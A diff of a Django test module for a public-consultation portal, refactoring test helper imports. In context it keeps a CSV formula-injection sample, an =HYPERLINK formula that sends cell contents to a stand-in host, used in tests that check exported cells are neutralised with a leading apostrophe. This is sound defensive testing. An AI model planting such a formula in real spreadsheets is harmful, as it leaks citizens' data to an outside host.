@@ -14,9 +14,10 @@ from django.utils import timezone
 
 from accounts.roles import APPROVER, BOARD_HEAD
 from core.exports import FORMULA_STARTS
-from tests.conftest import client_for
+from tests.support.portals import client_for
 
-from .conftest import admin_client, question_data
+from tests.support.admin import signed_in
+from tests.support.participation import question_data
 from .test_consultation import comment_data, make_consultation
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A2,"Xem chi tiết")'
@@ -49,7 +50,7 @@ def test_consultation_summary_cells_typed_by_citizens_arrive_as_text(portal_a, m
         assert ConsultationComment.objects.get(page=page).full_name == HYPERLINK  # stored as typed
         ConsultationPage.objects.filter(pk=page.pk).update(closes_at=timezone.now() - dt.timedelta(minutes=1))
 
-    board = admin_client(portal_a, make_local_user(portal_a, "bbt.congthuc", APPROVER))
+    board = signed_in(portal_a, make_local_user(portal_a, "bbt.congthuc", APPROVER))
     rows = rows_of(board.get(reverse("participation_comment:summary", args=(page.pk,))))
     comment = rows[1]
     assert comment[2] == "'" + HYPERLINK
@@ -68,7 +69,7 @@ def test_personal_data_export_cells_typed_by_citizens_arrive_as_text(portal_a, m
     )
     assert response.status_code == 200 and "tracking-code" in response.content.decode()
 
-    head = admin_client(portal_a, make_local_user(portal_a, "tbbt.congthuc", BOARD_HEAD))
+    head = signed_in(portal_a, make_local_user(portal_a, "tbbt.congthuc", BOARD_HEAD))
     rows = rows_of(head.post(
         reverse("participation_question:personal_data"),
         {"email": "congthuc@example.vn", "operation": "csv"},
